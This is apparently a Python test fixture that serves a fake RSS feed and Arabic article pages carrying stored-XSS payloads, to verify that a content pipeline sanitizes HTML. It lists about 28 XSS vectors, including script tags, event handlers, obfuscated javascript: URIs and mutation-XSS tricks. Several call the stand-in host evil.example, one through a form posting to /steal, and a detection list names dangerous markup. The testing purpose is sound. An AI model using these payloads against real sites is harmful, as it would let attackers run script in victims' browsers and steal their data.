"""Stored-XSS payloads, and a local outlet that serves them through a real feed and pages.

Every script payload calls ``alert('xss')`` or loads from ``evil.example``: if one ever runs,
the browser test sees a dialog or an outbound request; if one is ever stored unsanitized, the
storage test sees the markup.
"""

from __future__ import annotations

from html import escape

from tests.support.httpserver import LocalServer, Reply

EVIL = "evil.example"
MARKER = "حصان"
"""A word in every payload article, for the search page."""

MARKUP = (
    "<script>alert('xss')</script>",
    "<img src=x onerror=\"alert('xss')\">",
    '<img src="http://evil.example/pixel.gif" onload="alert(\'xss\')">',
    '<svg onload="alert(\'xss\')"><circle r="1"/></svg>',
    "<svg><script>alert('xss')</script></svg>",
    '<svg><a xlink:href="javascript:alert(\'xss\')"><text y="20">svg link</text></a></svg>',
    "<a href=\"javascript:alert('xss')\">js link</a>",
    "<a href=\"JaVaScRiPt:alert('xss')\">mixed case</a>",
    "<a href=\"&#106;avascript:alert('xss')\">entity</a>",
    "<a href=\"java&#x09;script:alert('xss')\">tab</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">data</a>',
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert('xss')&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert('xss')\"></object>",
    '<embed src="http://evil.example/x.swf">',
    "<math><mtext><table><mglyph><style><img src=x onerror=\"alert('xss')\">",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<div style="background:url(http://evil.example/bg.png)">styled</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss\')">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/steal"><input name=q><button>go</button></form>',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<details open ontoggle=\"alert('xss')\">t</details>",
    "<body onload=\"alert('xss')\">",
    "\"><script>alert('xss')</script><p x=\"",
    "</title><script>alert('xss')</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss')>\"></noscript>",
    "<template><script>alert('xss')</script></template>",
)
"""HTML payloads, placed in titles, summaries, bodies, authors and categories."""

EMBEDS = (
    '<blockquote class="twitter-tweet"><p lang="ar">تغريدة حصان '
    "<img src=x onerror=\"alert('xss')\"></p>— Evil (@evil) "
    "<a href=\"javascript:alert('xss')\">March 5, 2024</a></blockquote>"
    '<script async src="http://evil.example/widgets.js"></script>',
    '<iframe src="https://www.youtube.com/embed/abcdefgh123" onload="alert(\'xss\')"></iframe>',
    '<iframe src="javascript:alert(\'xss\')" class="instagram-media"></iframe>',
    '<div class="fb-post" data-href="javascript:alert(\'xss\')">'
    "<script>alert('xss')</script></div>",
)

SCRIPTY = (
    "<script", "onerror", "onload", "ontoggle", "javascript:", "<svg", "<iframe", "<object",
    "<embed", "<style", "<meta", "<base", "<form", "<link", "srcdoc", "evil.example/x",
)  # fmt: skip
"""What must never appear in stored, sanitized HTML."""


def _paragraphs(seed: int) -> str:
    from tests.hostile.kit import text_for

    return "".join(f"<p>{MARKER} {text_for(f'xss-{seed}-{i}', 45)}</p>" for i in range(3))


def _read_also(n: int, payload: str) -> str:
    """An اقرأ أيضاً box: the payload as a link title (to another payload page) and as a
    javascript: link."""
    other = (n + 1) % len(MARKUP)
    return (
        f'<div class="read-also"><h3>اقرأ أيضاً</h3><ul><li><a href="/xss/{other}.html">'
        f"{payload} {MARKER}</a></li><li><a href=\"javascript:alert('xss')\">{payload}</a></li>"
        "</ul></div>"
    )


def page(n: int, payload: str) -> str:
    """An article page with the payload in its title, metadata, body, embeds and read-also
    box."""
    embeds = EMBEDS[n % len(EMBEDS)] + _read_also(n, payload)
    return (
        "<!doctype html><html lang='ar'><head><meta charset='utf-8'>"
        f"<title>{MARKER} {n} {payload}</title>"
        f'<meta property="og:title" content="{escape(payload)} {MARKER} {n}">'
        f'<meta name="author" content="{escape(payload)}">'
        f'<meta property="og:image" content="javascript:alert(\'xss\')">'
        f'<meta property="article:tag" content="{escape(payload)}">'
        "<script>alert('xss')</script></head><body>"
        f"<article><h1>{MARKER} {n} {payload}</h1>{_paragraphs(n)}{payload}{embeds}"
        f"<p>{payload} {MARKER}</p>{_paragraphs(n + 1000)}</article></body></html>"
    )


def feed(base: str) -> bytes:
    """One item per payload: payload in the title (as escaped text and as HTML), summary,
    author, category, link and image."""
    items = []
    for n, payload in enumerate(MARKUP):
        items.append(
            "<item>"
            f"<title>{escape(f'{MARKER} {n} {payload}')}</title>"
            f"<link>{base}/xss/{n}.html</link><guid>{base}/xss/{n}.html</guid>"
            f"<description>{escape(payload + _paragraphs(n) + payload)}</description>"
            f"<author>x@evil.example ({escape(payload)})</author>"
            f"<category>{escape(payload)}</category>"
            f'<enclosure url="javascript:alert(\'xss\')" type="image/png"/>'
            "</item>"
        )
    items.append(
        "<item><title>رابط خبيث</title><link>javascript:alert('xss')</link>"
        f"<guid>javascript:alert('xss')</guid><description>{MARKER}</description></item>"
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>{escape('<script>alert(1)</script> منفذ خبيث')}</title>"
        f"<link>javascript:alert('xss')</link>{''.join(items)}</channel></rss>"
    ).encode()


def serve_outlet(server: LocalServer) -> str:
    """Route the hostile outlet on ``server``; return its feed URL."""
    html = {"Content-Type": "text/html; charset=utf-8"}
    for n, payload in enumerate(MARKUP):
        server.route(f"/xss/{n}.html", Reply(200, page(n, payload), html))
    server.route(
        "/xss/feed.xml", Reply(200, feed(server.origin), {"Content-Type": "application/rss+xml"})
    )
    return server.url("/xss/feed.xml")
